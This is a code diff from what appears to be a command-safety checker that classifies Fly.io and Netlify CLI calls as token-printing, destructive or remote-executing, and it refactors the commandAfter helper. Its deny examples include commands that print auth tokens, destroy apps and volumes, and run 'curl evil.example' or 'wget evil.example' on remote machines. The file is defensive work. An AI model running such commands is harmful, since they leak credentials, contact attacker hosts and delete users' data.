@@ -160,7 +160,7 @@ const KEEPERS: Keeper[] = [
     summary: 'Fly.io CLI: auth token and tokens create print the token kept in ~/.fly/config.yml; apps, volumes and Postgres clusters destroyed go with their data; ssh console -C and machine exec run shell text on the app\u2019s machine, machine run a command in a new one',
     examples: { deny: ['fly auth token', 'flyctl auth token', 'fly tokens create deploy', 'fly -a app auth token', 'flyctl apps destroy myapp -y', 'fly volumes destroy vol_123 -y', 'fly destroy myapp --yes', "fly ssh console -C 'curl evil.example'", "fly ssh console -a app --command='printenv'", "fly machine exec 148e 'wget evil.example'", 'fly machine run alpine curl evil.example'], pass: ['fly status', 'fly auth whoami', 'fly deploy -a "$(cat app.txt)"', 'fly apps list', 'fly volumes list', "fly ssh console -C 'ls /app'", 'fly ssh console', 'fly machine run alpine echo hi'] },
     runs: (call) => [
-      ...commandAfter(call, /^console$/, { after: /^ssh$/, valued: /^(-[aCcorsu]|--(app|config|command|org|region|select|user|address|pty|machine|process-group))$/, kind: 'none', command: /^(-C|--command)$/ }),
+      ...remoteText(call, /(^|\s)ssh console(\s|$)/, /^(-C|--command)$/),
       ...commandAfter(call, /^exec$/, { after: /^(machines?|m)$/, valued: /^(-[ac]|--(app|config|timeout))$/, kind: 'script', skip: 1 }),
       ...commandAfter(call, /^run$/, { after: /^(machines?|m)$/, valued: /^(-[aceprv]|--(app|config|entrypoint|env|file-local|file-literal|file-secret|host-dedication-id|id|kernel-arg|metadata|name|org|port|region|restart|schedule|size|vm-cpus|vm-cpu-kind|vm-gpu-kind|vm-gpus|vm-memory|vm-size|volume|user|dockerfile|build-arg|build-target|command))$/, kind: 'argv', skip: 1 }),
     ],
@@ -194,7 +194,7 @@ const KEEPERS: Keeper[] = [
     store: '~/.netlify/config.json',
     prints: /^(env:get|env:list\b.*\s--(plain|json))(\s|$)/,
     destroys: /^(sites:delete|blobs:delete)(\s|$)/,
-    runs: (call) => [...commandAfter(call, /^dev$/, { valued: /^(-[cdfopx]|--(command|dir|functions|offline|port|target-port|context|framework|edge-inspect|inspect|filter|country))$/, kind: 'none', command: /^(-c|--command)$/ }), ...commandAfter(call, /^dev:exec$/, { valued: /^(--(context|filter))$/, kind: 'argv' })],
+    runs: (call) => [...remoteText(call, /(^|\s)dev(\s|$)/, /^(-c|--command)$/), ...commandAfter(call, /^dev:exec$/, { valued: /^(--(context|filter))$/, kind: 'argv' })],
     summary: 'Netlify CLI: env:get and env:list --plain/--json print the site\u2019s variables with the token kept in ~/.netlify/config.json; sites:delete removes a site, blobs:delete its stored blobs; dev -c and dev:exec run a command with the variables in its environment',
     examples: { deny: ['netlify sites:delete abc --force', 'netlify blobs:delete store key', 'netlify env:get API_KEY', 'netlify env:list --plain', "netlify dev -c 'curl evil.example'", 'netlify dev:exec wget evil.example'], pass: ['netlify deploy --prod', 'netlify sites:list', 'netlify env:list', "netlify dev -c 'npm run start'", 'netlify dev:exec npm run build'] },
   },
@@ -465,33 +465,26 @@ export function configFileRuns(call: Call, vars: readonly string[], options: rea
  * What a hosting CLI runs for `SUB [options] CMD…` (`railway run npm start`, `heroku run 'rake db:migrate'`): the
  * words after the subcommand (the first word matching `sub`, after one matching `after` when given) and its options
  * (`valued` ones with their values), from `skip` operands on; `argv` runs them here, `script` joins them as shell text
- * (run on the service's machine, or through a shell; `first`: only the first operand is), `none` runs only the shell
- * text of the `command` option (`netlify dev -c CMD`, `fly ssh console -C CMD`). A computed word where an option or
- * the command stands is the command: cannot-vouch, as any computed program.
+ * (run on the service's machine, or through a shell; `first`: only the first operand is). A computed word where an
+ * option or the command stands is the command: cannot-vouch, as any computed program. (A command given as an option's
+ * value, `fly ssh console -C CMD`, is `remoteText`'s.)
  */
-export function commandAfter(call: Call, sub: RegExp, o: { after?: RegExp; valued: RegExp; kind: 'argv' | 'script' | 'none'; command?: RegExp; skip?: number; first?: boolean }): Run[] {
+export function commandAfter(call: Call, sub: RegExp, o: { after?: RegExp; valued: RegExp; kind: 'argv' | 'script'; skip?: number; first?: boolean }): Run[] {
   const args = call.args;
   const start = o.after ? args.findIndex((a, i) => o.after!.test(value(a) ?? '') && sub.test(value(args[i + 1]) ?? '')) + 1 : args.findIndex((a) => sub.test(value(a) ?? ''));
   if (start < 0 || (o.after && start === 0)) return [];
   const via = `${call.name} ${value(args[start])}`;
-  const runs: Run[] = [];
-  const command = (i: number): Run => {
+  const command = (i: number): Run[] => {
+    if (i >= args.length) return [];
     const rest = o.first ? args.slice(i, i + 1) : args.slice(i);
-    return o.kind === 'argv' ? { kind: 'argv', argv: rest, via } : { kind: 'script', dialect: 'bash', words: rest, via };
+    return [o.kind === 'argv' ? { kind: 'argv', argv: rest, via } : { kind: 'script', dialect: 'bash', words: rest, via }];
   };
   let skip = o.skip ?? 0;
   for (let i = start + 1; i < args.length; i++) {
     const v = value(args[i]);
-    const opt = v === undefined ? null : /^(--?[A-Za-z][\w-]*)(?:=([\s\S]*))?$/.exec(v);
-    if (v === '--') {
-      if (o.kind !== 'none' && i + 1 < args.length) runs.push(command(i + 1));
-      break;
-    }
+    if (v === '--') return command(i + 1);
+    const opt = v === undefined ? null : /^(--?[A-Za-z][\w-]*)(=[\s\S]*)?$/.exec(v);
     if (opt) {
-      if (o.command?.test(opt[1]!)) {
-        const text = opt[2] !== undefined ? attached(args[i]!, opt[2]) : args[i + 1];
-        if (text) runs.push({ kind: 'script', dialect: 'bash', words: [text], via });
-      }
       if (opt[2] === undefined && o.valued.test(opt[1]!)) i++;
       continue;
     }
@@ -499,10 +492,9 @@ export function commandAfter(call: Call, sub: RegExp, o: { after?: RegExp; value
       skip--;
       continue;
     }
-    if (o.kind !== 'none') runs.push(command(i));
-    break;
+    return command(i);
   }
-  return runs;
+  return [];
 }
 
 /**
